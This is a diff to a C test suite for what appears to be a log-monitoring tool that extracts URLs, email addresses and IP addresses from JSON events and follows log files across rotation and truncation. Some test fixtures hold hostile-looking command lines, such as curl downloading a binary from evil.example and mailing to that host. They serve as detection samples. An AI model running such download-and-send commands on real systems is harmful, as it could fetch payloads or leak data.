@@ -42,6 +42,12 @@ static void test_formats(void)
 		  "ipv4=198.51.100.7@peers.0 ipv6=2001:db8::9@peers.1", "", 0 },
 		{ "inside a command line", "{\"CommandLine\":\"curl -o x http://evil.example/p.bin && mail a@evil.example\"}",
 		  "url=http://evil.example/p.bin@CommandLine email=a@evil.example@CommandLine", "", 0 },
+		{ "a URL with a query, in text", "{\"cmd\":\"curl 'http://evil.example/p?a=1,2&b=(3)' -o x\"}",
+		  "url=http://evil.example/p?a@cmd url=http://evil.example/p?a=1,2&b=(3)@cmd", "", 0 },
+		{ "the field, not the message that repeats it", "{\"Message\":\"Source: 10.0.0.5 Dest: 198.51.100.7\",\"DestinationIp\":\"198.51.100.7\"}",
+		  "ipv4=10.0.0.5@Message ipv4=198.51.100.7@DestinationIp", "", 0 },
+		{ "an IPv4 peer of a dual-stack socket", "{\"IpAddress\":\"::ffff:198.51.100.7\",\"b\":\"::FFFF:c633:6408\"}",
+		  "ipv4=198.51.100.7@IpAddress ipv4=198.51.100.8@b", "", 0 },
 		{ "nothing to see", "{\"a\":1,\"b\":\"hello\",\"c\":null,\"d\":[true,{}]}", "", "", 0 },
 	};
 	struct arena *a = arena_new((size_t)64 << 20);
@@ -151,9 +157,13 @@ static void test_follow(void)
 	kept = offset;
 	append(path, "l.example\"}\n");
 	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 2, "and is matched when whole");
+	append(path, "{\"d\":\"late.evil.example\"");
 	OK(rename(path, old) == 0, "rotation");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_NOTFOUND && hits == 2, "no new file yet");
+	append(old, "}");
 	append(path, "{\"d\":\"b.evil.example\"}\n");
-	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 3, "the new file is read from its start");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 3 && more, "what came late to the old file is read");
+	OK(follow_read(path, &offset, &inode, w, &more, NULL) == RC_OK && hits == 4, "the new file is read from its start");
 	OK(truncate(path, 0) == 0, "truncation");
 	append(path, "{\"d\":\"x.evil.example\"}\n");
 	OK(truncate(path, 0) == 0, "again");
